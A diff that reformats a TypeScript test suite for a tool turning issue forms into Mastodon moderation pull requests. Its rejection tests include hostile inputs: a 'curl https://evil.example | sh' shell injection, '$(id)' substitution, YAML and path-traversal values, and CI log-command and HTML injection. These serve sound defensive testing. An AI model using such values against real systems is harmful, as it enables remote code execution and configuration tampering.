@@ -10,9 +10,11 @@ const [MEDIA] = FORMS.block.fields.refuse.options
 const [NAMED] = FORMS.block.fields.named.options
 const BLOCKS = 'instance/domain-blocks.yaml'
 const FILES = {
-  [BLOCKS]: 'domain_blocks:\n  - domain: hosting.example\n    severity: suspend\n  - domain: loud.example\n    severity: limit\n',
+  [BLOCKS]:
+    'domain_blocks:\n  - domain: hosting.example\n    severity: suspend\n  - domain: loud.example\n    severity: limit\n',
   'instance/policy.yaml': 'protected_domains: [friend.example]\n',
-  'instance/rules.yaml': 'rules:\n  - key: be-kind\n    text: Be kind.\n    translations:\n      de: { text: Sei freundlich. }\n  - key: no-spam\n    text: No spam.\n',
+  'instance/rules.yaml':
+    'rules:\n  - key: be-kind\n    text: Be kind.\n    translations:\n      de: { text: Sei freundlich. }\n  - key: no-spam\n    text: No spam.\n',
 }
 
 let herd: Farm
@@ -30,8 +32,15 @@ type Answers = Parameters<typeof issueOf>[1]
 const BLOCK: Answers = { domain: 'bad.example', severity: SUSPEND, why: 'Harassment' }
 
 /** An issue by a member, sent with a form. */
-const asked = (form: keyof typeof FORMS, answers: Answers): Promise<number> => herd.hub.act.openIssue({ by: 'member', title: FORMS[form].prefix, body: issueOf(form, answers), labels: ['herdbook: ask'] })
-const said = (issue: number): string[] => [...herd.hub.state.comments.values()].filter((one) => one.issue === issue).map(({ body }) => body)
+const asked = (form: keyof typeof FORMS, answers: Answers): Promise<number> =>
+  herd.hub.act.openIssue({
+    by: 'member',
+    title: FORMS[form].prefix,
+    body: issueOf(form, answers),
+    labels: ['herdbook: ask'],
+  })
+const said = (issue: number): string[] =>
+  [...herd.hub.state.comments.values()].filter((one) => one.issue === issue).map(({ body }) => body)
 const pulls = () => [...herd.hub.state.issues.values()].filter((one) => one.pull)
 
 /** Labelled by somebody; answers what the issue was told. */
@@ -48,7 +57,13 @@ async function proposed(issue: number) {
   const number = Number(/^Proposed in #(\d+)\./.exec(answer)?.[1])
   const pull = herd.hub.state.issues.get(number)
   if (!pull?.pull) throw new Error(answer)
-  return { number, title: pull.title, body: pull.body ?? '', head: pull.pull.head, file: (path: string) => herd.hub.state.git.run(['show', `${pull.pull?.head.commit}:${path}`]) }
+  return {
+    number,
+    title: pull.title,
+    body: pull.body ?? '',
+    head: pull.pull.head,
+    file: (path: string) => herd.hub.state.git.run(['show', `${pull.pull?.head.commit}:${path}`]),
+  }
 }
 
 const checkOf = (commit: string): string => {
@@ -66,23 +81,37 @@ describe('a form that was accepted', () => {
     expect(pull.body).toMatch(/severs for good 30 follows and 20 followers of 4 members; 15 accounts/)
     expect(pull.body).toMatch(/The file accepts 60: a fifth more, and at least ten more/)
     expect(pull.body).not.toMatch(/@member|Harassment/)
-    expect(await pull.file(BLOCKS)).toMatch(/- domain: bad\.example\n {4}severity: suspend\n {4}public_comment: Harassment\n {4}reported_in: .*\/issues\/\d+\n {4}accept_severed_relationships: 60$/)
+    expect(await pull.file(BLOCKS)).toMatch(
+      /- domain: bad\.example\n {4}severity: suspend\n {4}public_comment: Harassment\n {4}reported_in: .*\/issues\/\d+\n {4}accept_severed_relationships: 60$/,
+    )
     expect(commentOn(herd, pull.number)).toMatch(/### Blocks `bad\.example`[^]*herdbook-approvals v2/)
     expect(checkOf(pull.head.commit)).toMatch(/^success: Blocks bad\.example/)
 
     await herd.hub.act.merge(pull.number, 'zoe')
     expect(ran(await herd.settle(), 'apply').result).toBe('success')
-    expect(await herd.rows("select severity from domain_blocks where domain = 'bad.example'")).toEqual([{ severity: 1 }])
+    expect(await herd.rows("select severity from domain_blocks where domain = 'bad.example'")).toEqual([
+      { severity: 1 },
+    ])
     expect(herd.hub.state.issues.get(issue)?.state).toBe('closed')
   })
 
   it('is nothing where the text is another by the time of the run: what was accepted is what somebody looked at', async () => {
-    const [before, issue] = [pulls().length, await asked('block', { ...BLOCK, domain: 'looked-at.example', severity: LIMIT })]
-    const [looked, swapped] = [issueOf('block', { ...BLOCK, domain: 'looked-at.example', severity: LIMIT }), issueOf('block', { ...BLOCK, domain: 'swapped.example' })]
+    const [before, issue] = [
+      pulls().length,
+      await asked('block', { ...BLOCK, domain: 'looked-at.example', severity: LIMIT }),
+    ]
+    const [looked, swapped] = [
+      issueOf('block', { ...BLOCK, domain: 'looked-at.example', severity: LIMIT }),
+      issueOf('block', { ...BLOCK, domain: 'swapped.example' }),
+    ]
     await herd.hub.act.label(issue, 'herdbook: accept', 'ann')
     await herd.hub.act.edit(issue, { body: swapped }, 'member')
     ran(await herd.settle(), 'ask')
-    expect(said(issue)).toEqual([expect.stringMatching(/^Not proposed: the text of this issue was changed after it got the label\. .*put the label `herdbook: accept` on it again\.$/)])
+    expect(said(issue)).toEqual([
+      expect.stringMatching(
+        /^Not proposed: the text of this issue was changed after it got the label\. .*put the label `herdbook: accept` on it again\.$/,
+      ),
+    ])
     expect(herd.hub.state.issues.get(issue)?.labels).toEqual(['herdbook: ask'])
     expect(pulls()).toHaveLength(before)
     // What it says to do works, for what the issue says by then.
@@ -92,16 +121,24 @@ describe('a form that was accepted', () => {
   })
 
   it('names whoever asked where they ticked the box, and pings nobody', async () => {
-    const pull = await proposed(await asked('block', { ...BLOCK, domain: 'named.example', severity: LIMIT, refuse: [MEDIA], named: [NAMED] }))
+    const pull = await proposed(
+      await asked('block', { ...BLOCK, domain: 'named.example', severity: LIMIT, refuse: [MEDIA], named: [NAMED] }),
+    )
     expect(pull.body).toContain('Asked for by `@member`.')
     expect(html(pull.body).replace(/<code>.*?<\/code>/g, '')).not.toContain('@')
-    expect(await pull.file(BLOCKS)).toContain('- domain: named.example\n    severity: limit\n    reject_media: true\n    public_comment: Harassment\n')
+    expect(await pull.file(BLOCKS)).toContain(
+      '- domain: named.example\n    severity: limit\n    reject_media: true\n    public_comment: Harassment\n',
+    )
   })
 
   it('that is accepted again brings its pull request up to date', async () => {
     const issue = await asked('block', { ...BLOCK, domain: 'twice.example', severity: LIMIT })
     const first = await proposed(issue)
-    await herd.hub.act.edit(issue, { body: issueOf('block', { ...BLOCK, domain: 'thrice.example', severity: LIMIT }) }, 'member')
+    await herd.hub.act.edit(
+      issue,
+      { body: issueOf('block', { ...BLOCK, domain: 'thrice.example', severity: LIMIT }) },
+      'member',
+    )
     const second = await proposed(issue)
     expect(second.number).toBe(first.number)
     expect(second.title).toBe(`Block thrice.example (#${issue})`)
@@ -119,7 +156,9 @@ describe('a form that was accepted', () => {
     const pull = await proposed(await asked('promote', { account: '@Alice', role: 'Moderator', why: 'To help' }))
     expect(pull.title).toMatch(/^Make alice Moderator \(#\d+\)$/)
     expect(pull.body).toMatch(/Nobody has checked that whoever asked is `@alice`/)
-    expect(await pull.file('instance/moderators.yaml')).toMatch(/- account: alice\n {4}role: Moderator\n {4}since: \d{4}-/)
+    expect(await pull.file('instance/moderators.yaml')).toMatch(
+      /- account: alice\n {4}role: Moderator\n {4}since: \d{4}-/,
+    )
     expect(commentOn(herd, pull.number)).toMatch(/alice/)
   })
 
@@ -127,9 +166,15 @@ describe('a form that was accepted', () => {
     const changed = await proposed(await asked('rule', { rule: '1', text: 'Be kind to all.', why: 'Clearer' }))
     expect(await changed.file('instance/rules.yaml')).toContain('- key: be-kind\n    text: Be kind to all.\n')
     expect(changed.body).toMatch(/translations still say what it said before: .*de/)
-    const translated = await proposed(await asked('rule', { rule: 'no-spam', language: 'fr', text: 'Pas de spam.', why: 'For us' }))
-    expect(await translated.file('instance/rules.yaml')).toMatch(/- key: no-spam\n {4}text: No spam\.\n {4}translations:\n {6}fr:\s+\{? ?text: Pas de spam\./)
-    const added = await proposed(await asked('rule', { text: 'Describe your pictures, closes #1 @everyone', why: 'For those who can not see' }))
+    const translated = await proposed(
+      await asked('rule', { rule: 'no-spam', language: 'fr', text: 'Pas de spam.', why: 'For us' }),
+    )
+    expect(await translated.file('instance/rules.yaml')).toMatch(
+      /- key: no-spam\n {4}text: No spam\.\n {4}translations:\n {6}fr:\s+\{? ?text: Pas de spam\./,
+    )
+    const added = await proposed(
+      await asked('rule', { text: 'Describe your pictures, closes #1 @everyone', why: 'For those who can not see' }),
+    )
     expect(added.title).toMatch(/^Add the rule describe-your-pictures-closes-1-everyone \(#\d+\)$/)
     expect(await added.file('instance/rules.yaml')).toContain('    text: "Describe your pictures, closes #1 @everyone"')
     expect(added.body).not.toContain('@everyone')
@@ -138,25 +183,70 @@ describe('a form that was accepted', () => {
 
 describe('what can not be done is said in the issue, and nothing is proposed', () => {
   it.each<[string, keyof typeof FORMS, Answers, RegExp]>([
-    ['a page about somebody elsewhere', 'block', { ...BLOCK, domain: 'https://herd.example/@troll@bad.example' }, /this is a page of `herd\.example` about somebody of `bad\.example`/],
+    [
+      'a page about somebody elsewhere',
+      'block',
+      { ...BLOCK, domain: 'https://herd.example/@troll@bad.example' },
+      /this is a page of `herd\.example` about somebody of `bad\.example`/,
+    ],
     ['shell', 'block', { ...BLOCK, domain: 'spam.example; curl https://evil.example | sh #' }, /is not a domain/],
     ['shell in the name', 'block', { ...BLOCK, domain: '$(id).example' }, /Mastodon takes no domain with/],
     ['YAML', 'block', { ...BLOCK, domain: '{domain: x, severity: none}' }, /is not a domain/],
-    ['YAML on more lines', 'block', { ...BLOCK, domain: 'spam.example\n    severity: none\n  - domain: friend.example' }, /more than one line/],
+    [
+      'YAML on more lines',
+      'block',
+      { ...BLOCK, domain: 'spam.example\n    severity: none\n  - domain: friend.example' },
+      /more than one line/,
+    ],
     ['a megabyte', 'block', { ...BLOCK, domain: 'a'.repeat(60_000) }, /more than 300 characters/],
-    ['a second answer', 'block', { ...BLOCK, why: `Spam\n\n### Domain to block\n\nfriend.example` }, /stands here 2 times/],
+    [
+      'a second answer',
+      'block',
+      { ...BLOCK, why: `Spam\n\n### Domain to block\n\nfriend.example` },
+      /stands here 2 times/,
+    ],
     ['the own domain', 'block', { ...BLOCK, domain: 'herd.example' }, /it is your own domain/],
     ['a protected domain', 'block', { ...BLOCK, domain: 'friend.example' }, /policy\.yaml.* protects it/],
     ['everybody below a suffix', 'block', { ...BLOCK, domain: 'co.uk' }, /everybody registers names below/],
-    ['what is blocked', 'block', { ...BLOCK, domain: 'hosting.example', severity: LIMIT }, /`hosting\.example` is blocked already/],
-    ['what a block above covers', 'block', { ...BLOCK, domain: 'a.b.hosting.example' }, /`hosting\.example` is blocked already, and that covers/],
+    [
+      'what is blocked',
+      'block',
+      { ...BLOCK, domain: 'hosting.example', severity: LIMIT },
+      /`hosting\.example` is blocked already/,
+    ],
+    [
+      'what a block above covers',
+      'block',
+      { ...BLOCK, domain: 'a.b.hosting.example' },
+      /`hosting\.example` is blocked already, and that covers/,
+    ],
     ['a block that is not there', 'unblock', { domain: 'fine.example', why: 'x' }, /no block of `fine\.example`/],
     ['a role that is not there', 'promote', { account: 'alice', role: 'Moderatr', why: 'x' }, /no role[^]*Moderator/],
-    ['a role that may do everything', 'promote', { account: 'alice', role: 'Owner', why: 'x' }, /may do everything, and no form gives that/],
-    ["an owner's role", 'promote', { account: 'owner', role: 'Moderator', why: 'x' }, /holds a role that may do everything/],
+    [
+      'a role that may do everything',
+      'promote',
+      { account: 'alice', role: 'Owner', why: 'x' },
+      /may do everything, and no form gives that/,
+    ],
+    [
+      "an owner's role",
+      'promote',
+      { account: 'owner', role: 'Moderator', why: 'x' },
+      /holds a role that may do everything/,
+    ],
     ['nobody', 'promote', { account: 'nobody_here', role: 'Moderator', why: 'x' }, /no account/],
-    ["somebody's login that is disabled", 'promote', { account: 'bob', role: 'Moderator', why: 'x' }, /no account `?@bob`? on this server that can log in/],
-    ['another server', 'promote', { account: 'alice@evil.example', role: 'Moderator', why: 'x' }, /no account of this server/],
+    [
+      "somebody's login that is disabled",
+      'promote',
+      { account: 'bob', role: 'Moderator', why: 'x' },
+      /no account `?@bob`? on this server that can log in/,
+    ],
+    [
+      'another server',
+      'promote',
+      { account: 'alice@evil.example', role: 'Moderator', why: 'x' },
+      /no account of this server/,
+    ],
     ['a rule that is not there', 'rule', { rule: 'be-knid', text: 'x', why: 'x' }, /Did you mean `?be-kind`?/],
     ['no language', 'rule', { rule: '1', language: '../../x', text: 'x', why: 'x' }, /no code of a language/],
     ['what the files say', 'rule', { rule: '2', text: 'No spam.', why: 'x' }, /the files say so already/],
@@ -180,13 +270,23 @@ describe('what can not be done is said in the issue, and nothing is proposed', (
   })
 
   it('an issue without a form', async () => {
-    const issue = await herd.hub.act.openIssue({ by: 'member', title: 'Block', body: 'Please block spam.example', labels: ['herdbook: ask'] })
+    const issue = await herd.hub.act.openIssue({
+      by: 'member',
+      title: 'Block',
+      body: 'Please block spam.example',
+      labels: ['herdbook: ask'],
+    })
     expect(await accepted(issue)).toMatch(/not made with one of the forms/)
   })
 })
 
 it('what a form puts into the files is inert in the summary of the run and in its log', async () => {
-  const issue = await asked('block', { ...BLOCK, domain: 'quiet.example', severity: LIMIT, why: '::set-output name=x::y\n##[error]z @everyone <img src=https://evil.example>' })
+  const issue = await asked('block', {
+    ...BLOCK,
+    domain: 'quiet.example',
+    severity: LIMIT,
+    why: '::set-output name=x::y\n##[error]z @everyone <img src=https://evil.example>',
+  })
   await herd.hub.act.label(issue, 'herdbook: accept', 'ann')
   const job = ran(await herd.settle(), 'ask')
   expect(job.result).toBe('success')
